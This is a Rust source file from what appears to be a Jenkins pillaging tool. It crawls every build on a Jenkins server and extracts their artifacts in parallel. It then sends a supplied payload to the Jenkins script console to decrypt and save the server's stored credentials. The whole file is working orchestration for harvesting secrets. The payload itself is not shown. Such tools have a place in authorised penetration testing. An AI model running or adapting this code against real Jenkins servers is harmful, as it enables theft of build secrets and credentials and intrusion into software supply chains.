// Dispatch driver: discovery, then extraction across a fixed worker pool,
// then the script-console credential dump.

use crate::output::{ArtifactWriter, NoticeCallback};
use indicatif::{ProgressBar, ProgressStyle};
use pillage_scanner::discover::LinkCallback;
use pillage_scanner::error::Result;
use pillage_scanner::{
    ArtifactKind, BuildLink, BuildReport, Credentials, DiscoveryOptions, Discoverer, Extractor,
    JenkinsClient, JenkinsEndpoint, Outcome, TransportOptions,
};
use std::path::PathBuf;
use std::sync::Arc;
use tokio::sync::{Mutex, mpsc};
use tracing::{debug, info, warn};

/// Options shared by every run mode.
#[derive(Debug, Clone)]
pub struct DispatchOptions {
    pub transport: TransportOptions,
    pub credentials: Option<Credentials>,
    pub force_host: bool,
    pub threads: usize,
    pub output_dir: PathBuf,
    /// Script-console payload. `None` skips credential decryption.
    pub script: Option<String>,
    pub show_progress_bars: bool,
}

impl Default for DispatchOptions {
    fn default() -> Self {
        Self {
            transport: TransportOptions::default(),
            credentials: None,
            force_host: false,
            threads: default_threads(),
            output_dir: PathBuf::from("."),
            script: None,
            show_progress_bars: false,
        }
    }
}

/// Upper bound on extraction workers.
pub const MAX_THREADS: usize = 256;

/// Available parallelism minus one, never less than one.
pub fn default_threads() -> usize {
    std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .saturating_sub(1)
        .clamp(1, MAX_THREADS)
}

/// Wrap `inner` so each notice is printed with the bar cleared. The bar
/// may be hidden (stderr not a terminal); notices still reach `inner`.
pub fn progress_notice(pb: ProgressBar, inner: NoticeCallback) -> NoticeCallback {
    Arc::new(move |msg: String| pb.suspend(|| inner(msg)))
}

/// Everything an auto run found, for the closing report.
#[derive(Debug, Clone)]
pub struct RunSummary {
    pub root: String,
    pub builds: Vec<BuildLink>,
    pub reports: Vec<BuildReport>,
    /// `None` when no script was supplied.
    pub credentials: Option<Outcome<()>>,
    pub output_dir: PathBuf,
}

impl RunSummary {
    pub fn found_count(&self, kind: ArtifactKind) -> usize {
        match kind {
            ArtifactKind::Credentials => {
                usize::from(matches!(self.credentials, Some(Outcome::Found(_))))
            }
            _ => self
                .reports
                .iter()
                .filter(|report| report.found_kinds().contains(&kind))
                .count(),
        }
    }
}

fn build_client(options: &DispatchOptions) -> Result<JenkinsClient> {
    JenkinsClient::new(&options.transport, options.credentials.clone())
}

fn discoverer(options: &DispatchOptions, client: JenkinsClient) -> Discoverer {
    Discoverer::new(
        client,
        DiscoveryOptions {
            force_host: options.force_host,
        },
    )
}

/// Discovery only. `on_link` sees each build as it is found.
pub async fn run_list(
    root: &str,
    options: &DispatchOptions,
    on_link: LinkCallback,
) -> Result<Vec<BuildLink>> {
    let client = build_client(options)?;
    discoverer(options, client)
        .with_link_callback(on_link)
        .discover(root)
        .await
}

/// Extract and persist a single explicitly given build.
pub async fn run_build(build_url: &str, options: &DispatchOptions) -> Result<BuildReport> {
    let build = JenkinsEndpoint::new(build_url)?;
    let writer = ArtifactWriter::new(&options.output_dir)?;
    let extractor = Extractor::new(build_client(options)?);

    writer.notice(format!("Attempting: {}", build.url()));
    let report = extractor.extract(&build).await;
    writer.persist_report(&report);
    Ok(report)
}

/// Discover every build under `root`, extract them all in parallel, then
/// try the script console once against `root`.
///
/// Fails only for an invalid root URL, an unusable output directory or a
/// broken worker pool; everything remote is logged and skipped.
pub async fn run_auto(
    root: &str,
    options: &DispatchOptions,
    on_link: LinkCallback,
) -> Result<RunSummary> {
    let root_endpoint = JenkinsEndpoint::new(root)?;
    let client = build_client(options)?;
    let mut writer = ArtifactWriter::new(&options.output_dir)?;

    let builds = discoverer(options, client.clone())
        .with_link_callback(on_link)
        .discover(root)
        .await?;
    info!("Discovered {} builds under {}", builds.len(), root);

    let progress_bar = if options.show_progress_bars && !builds.is_empty() {
        let pb = ProgressBar::new(builds.len() as u64);
        pb.set_style(
            ProgressStyle::with_template("{spinner:.cyan} [{bar:40.cyan/blue}] {pos}/{len} builds {msg}")
                .unwrap_or_else(|_| ProgressStyle::default_bar())
                .progress_chars("=>-"),
        );
        let notice = progress_notice(pb.clone(), writer.notice_callback());
        writer = writer.with_notice_callback(notice);
        Some(pb)
    } else {
        None
    };

    let extractor = Extractor::new(client);
    let writer = Arc::new(writer);
    let reports = extract_all(
        builds.clone(),
        extractor.clone(),
        writer.clone(),
        options.threads,
        progress_bar.clone(),
    )
    .await?;

    if let Some(ref pb) = progress_bar {
        pb.finish_with_message("done");
    }

    let credentials = match options.script {
        Some(ref script) => Some(dump_credentials(&extractor, &root_endpoint, script, &writer).await),
        None => {
            debug!("No credential script supplied, skipping script console");
            None
        }
    };

    Ok(RunSummary {
        root: root.to_string(),
        builds,
        reports,
        credentials,
        output_dir: writer.dir().to_path_buf(),
    })
}

/// Feed `builds` through a bounded queue to `threads` workers. Each worker
/// owns its extraction end to end, including the file writes.
async fn extract_all(
    builds: Vec<BuildLink>,
    extractor: Extractor,
    writer: Arc<ArtifactWriter>,
    threads: usize,
    progress_bar: Option<ProgressBar>,
) -> Result<Vec<BuildReport>> {
    let threads = threads.clamp(1, MAX_THREADS);
    let (tx, rx) = mpsc::channel::<BuildLink>(threads.saturating_mul(2));
    let rx = Arc::new(Mutex::new(rx));

    let producer = tokio::spawn(async move {
        for build in builds {
            if tx.send(build).await.is_err() {
                break;
            }
        }
    });

    let mut workers = Vec::with_capacity(threads);
    for worker_id in 0..threads {
        let rx = rx.clone();
        let extractor = extractor.clone();
        let writer = writer.clone();
        let progress_bar = progress_bar.clone();

        workers.push(tokio::spawn(async move {
            debug!("Worker {} started", worker_id);
            let mut reports = Vec::new();

            loop {
                let next = { rx.lock().await.recv().await };
                let Some(link) = next else { break };

                match extract_one(&extractor, &writer, &link).await {
                    Some(report) => reports.push(report),
                    None => warn!("Skipping malformed build URL {}", link),
                }

                if let Some(ref pb) = progress_bar {
                    pb.inc(1);
                }
            }

            debug!("Worker {} finished after {} builds", worker_id, reports.len());
            reports
        }));
    }

    producer.await?;

    let mut all_reports = Vec::new();
    for worker in workers {
        all_reports.extend(worker.await?);
    }
    Ok(all_reports)
}

async fn extract_one(
    extractor: &Extractor,
    writer: &ArtifactWriter,
    link: &BuildLink,
) -> Option<BuildReport> {
    let build = JenkinsEndpoint::new(link.as_str()).ok()?;
    writer.notice(format!("Attempting: {}", build.url()));
    let report = extractor.extract(&build).await;
    writer.persist_report(&report);
    Some(report)
}

async fn dump_credentials(
    extractor: &Extractor,
    root: &JenkinsEndpoint,
    script: &str,
    writer: &ArtifactWriter,
) -> Outcome<()> {
    let outcome = match extractor.decrypt_credentials(root, script).await {
        Ok(outcome) => outcome,
        Err(e) => {
            warn!("Script console request failed: {}", e);
            Outcome::NotFound
        }
    };

    if let Some(creds) = outcome.found() {
        writer.notice("-- FOUND CREDENTIALS IN CREDENTIAL STORE".to_string());
        if let Err(e) = writer.write(root.url(), ArtifactKind::Credentials, creds) {
            warn!("Failed to write credentials: {}", e);
        }
    } else {
        info!("Credential store not readable ({})", outcome.label());
    }

    outcome.map(|_| ())
}

